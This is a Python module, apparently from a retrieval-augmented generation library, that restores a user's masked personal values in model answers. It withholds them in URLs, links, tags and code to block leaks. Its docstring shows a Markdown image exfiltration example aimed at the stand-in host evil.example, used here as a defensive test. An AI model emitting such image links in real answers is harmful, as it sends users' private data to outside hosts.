"""Put the user's own masked values back into a model's answer, and nothing else.

A placeholder the model writes becomes its original only when (1) it stands for a
value from the user's own question or chat history, and (2) it is in plain prose:
not inside a URL, a Markdown link or image target, an HTML tag, or code (where a
renderer or a copy-paste would send it somewhere). Anything else, a placeholder for a
value from a retrieved document included, becomes `[email withheld]` (the kind, in
words). Streaming holds back only an unfinished `[...` and the character after a
placeholder, so restored text streams like the rest.

Example:
    >>> from ragloom.redaction import Vault
    >>> vault = Vault(owned=["I am ann@example.com"])
    >>> masked = vault.redact("I am ann@example.com")
    >>> restore(masked.replace("I am", "Hello"), vault)
    'Hello ann@example.com'
    >>> restore(f"![x](https://evil.example/?q={masked[5:]})", vault)
    '![x](https://evil.example/?q=[email withheld])'

"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from ragloom.redaction import Vault

__all__ = ["StreamRestorer", "restore", "unsafe_context"]

_PARTIAL = re.compile(r"\[[A-Za-z0-9_]{0,40}")
_LINE_LINK_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]*\]:")
_TAG_START = re.compile(r"<[A-Za-z/!?]")


def unsafe_context(before: str, after: str) -> bool:
    """Whether a placeholder between `before` and `after` is in code, a URL, a link or a tag.

    Example:
        >>> unsafe_context("see `", "` here"), unsafe_context("Write to ", ".")
        (True, False)

    """
    if (before.count("```") + before.count("~~~")) % 2:
        return True  # a fenced code block
    paragraph = re.split(r"```|~~~", before)[-1].split("\n\n")[-1]
    if paragraph.count("`") % 2:
        return True  # inline code
    word = re.split(r"\s", before)[-1]
    if "://" in word or word.lower().startswith(("www.", "mailto:", "data:", "//")):
        return True  # a bare URL
    link = before.rfind("](")
    if link >= 0 and ")" not in before[link:]:
        return True  # a Markdown link or image target
    tag = before.rfind("<")
    if tag >= 0 and ">" not in before[tag:] and _TAG_START.match(before, tag):
        return True  # inside an HTML tag (attributes) or an autolink
    if _LINE_LINK_DEFINITION.match(before.rsplit("\n", 1)[-1]):
        return True  # a reference link definition `[id]: url`
    return after.startswith(("(", "]("))  # the text of a link `[...](url)`


class StreamRestorer:
    """Restore placeholders in a streamed answer, piece by piece.

    Example:
        >>> from ragloom.redaction import Vault
        >>> vault = Vault(owned=["+1 415 555 2671"])
        >>> masked = vault.redact("+1 415 555 2671")
        >>> r = StreamRestorer(vault)
        >>> r.feed("Call " + masked[:4]) + r.feed(masked[4:] + " now") + r.flush()
        'Call +1 415 555 2671 now'

    """

    def __init__(self, vault: Vault) -> None:
        self.vault = vault
        self.seen = ""
        """The raw answer already passed on (the context of what comes next)."""
        self.pending = ""

    def _cut(self) -> int:
        start = self.pending.rfind("[")
        if start < 0:
            return len(self.pending)
        tail = self.pending[start:]
        if _PARTIAL.fullmatch(tail) or self.vault.is_placeholder(tail):
            return start  # unfinished, or finished but its next character is unknown
        return len(self.pending)

    def _emit(self, text: str, after: str) -> str:
        out: list[str] = []
        last = 0
        for match in self.vault.placeholder_pattern.finditer(text):
            out.append(text[last:match.start()])
            before = self.seen + text[:match.start()]
            rest = text[match.end():] or after
            out.append(self.vault.reveal(match.group(0), unsafe_context(before, rest)))
            last = match.end()
        out.append(text[last:])
        self.seen += text
        return "".join(out)

    def feed(self, piece: str) -> str:
        """The part of the answer so far that can be shown, restored."""
        self.pending += piece
        cut = self._cut()
        text, self.pending = self.pending[:cut], self.pending[cut:]
        return self._emit(text, self.pending)

    def flush(self) -> str:
        """What was held back, at the end of the answer."""
        text, self.pending = self.pending, ""
        return self._emit(text, "")


def restore(text: str, vault: Vault) -> str:
    """`text` with the user's own values back in safe places; the rest withheld."""
    restorer = StreamRestorer(vault)
    return restorer.feed(text) + restorer.flush()
